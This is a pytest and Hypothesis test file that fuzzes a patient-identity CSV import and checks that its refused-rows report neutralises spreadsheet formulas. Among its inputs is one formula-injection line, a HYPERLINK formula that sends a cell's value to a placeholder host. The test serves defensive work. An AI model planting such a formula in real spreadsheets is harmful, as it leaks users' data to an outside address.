"""Fuzz the CSV import: random bytes, wrong encodings, huge fields never crash it nor half-write a row;
the report it writes cannot run a formula in a spreadsheet."""

from __future__ import annotations

import contextlib
import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from identities.csv_safety import csv_safe
from identities.importing import ImportFileError, import_identities, write_report
from identities.models import PatientIdentity

HEADER = b"source_id,birth_name,first_names,sex,birth_date,birth_place,nir\n"
GOOD = "{ipp},MARTIN,JEANNE,F,1985-03-21,75056,\n"
DB_FUZZ = settings(max_examples=40, deadline=None,
                   suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

hostile_row = st.one_of(
    st.binary(max_size=200),  # random bytes, including invalid UTF-8, NUL, quotes and stray newlines
    st.text(max_size=80).map(lambda t: t.encode("utf-8")),
    st.sampled_from(["Œ,ÉLODIE,Zoé", "ÇA,CHÂTEAU"]).map(lambda t: f"X1,{t},F,1990-01-01\n".encode("latin-1",
                                                                                              "replace")),
    st.just(b"BIG," + b"A" * 200_000 + b",JEANNE,F,1985-03-21,75056,\n"),  # a huge field
    st.just(b'=HYPERLINK("http://x/?"&A1),MARTIN,JEANNE,F,1985-03-21,75056,\n'),
)


def _import(lines: list[bytes], facility):
    before = PatientIdentity.objects.count()
    report = import_identities(lines, facility=facility)
    assert PatientIdentity.objects.count() - before == report.created  # nothing half-written
    assert all(row.line >= 2 for row in report.refused)
    return report


@DB_FUZZ
@given(rows=st.lists(hostile_row, max_size=6), ipp=st.integers(0, 10**9))
def test_hostile_rows_are_imported_or_refused_never_crash(db, facility, rows, ipp):
    good = GOOD.format(ipp=f"OK{ipp}").encode()
    body = b"".join(row if row.endswith(b"\n") else row + b"\n" for row in rows)
    # The good row comes first: whatever follows (an unclosed quote may swallow the rest), it is imported.
    report = _import([HEADER, good, *io.BytesIO(body).readlines()], facility)
    assert PatientIdentity.objects.filter(source_id=f"OK{ipp}").exists()
    out = io.StringIO()
    write_report(report.refused, out)
    for line in list(csv.reader(io.StringIO(out.getvalue())))[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line[1:])


@DB_FUZZ
@given(st.binary(max_size=300))
def test_a_random_file_is_refused_as_a_whole_or_imported_row_by_row(db, facility, data):
    with contextlib.suppress(ImportFileError):  # a file without a usable header is refused whole
        _import(io.BytesIO(data).readlines(), facility)


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16"])
def test_a_file_in_another_encoding_does_not_crash(db, facility, encoding):
    text = "source_id,birth_name,first_names\nE1,CHÂTEAU,HÉLÈNE\nE2,MARTIN,JEANNE\n"
    try:
        report = _import(io.BytesIO(text.encode(encoding)).readlines(), facility)
    except ImportFileError:
        return  # utf-16: the header itself is unreadable, the file is refused with a message
    assert "E1" in {row.source_id for row in report.refused}  # the accented row is refused, not garbled


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 1", "'+33 1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("MARTIN", "MARTIN"), ("", ""), (12, 12), (None, None)])
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected
